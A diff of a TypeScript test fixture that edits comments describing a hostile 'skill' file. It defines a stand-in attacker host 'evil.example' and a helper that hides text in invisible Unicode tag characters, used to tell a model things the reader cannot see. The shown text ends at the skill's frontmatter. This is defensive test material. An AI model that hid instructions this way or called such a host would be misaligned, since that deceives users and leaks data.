@@ -1,12 +1,12 @@
 import type { GitFile } from "#test/servers/git-repository.ts";
 
-/** Somebody who wants the page to run their code, or to tell them that it was opened, asks here. */
+/** The host that a hostile text calls, to run its code in the page or to learn that it was opened. */
 export const hostileHost = "evil.example";
 
 const tagged = (text: string) =>
   [...text].map((letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0))).join("");
 
-/** A skill that tries what Markdown allows: run code, call home, and say to the model what a reader does not see. */
+/** A skill that tries what Markdown allows: run code, call home, and tell the model what the reader does not see. */
 export const hostileFiles: Record<string, GitFile> = {
   "skills/hostile/SKILL.md": `---
 name: hostile
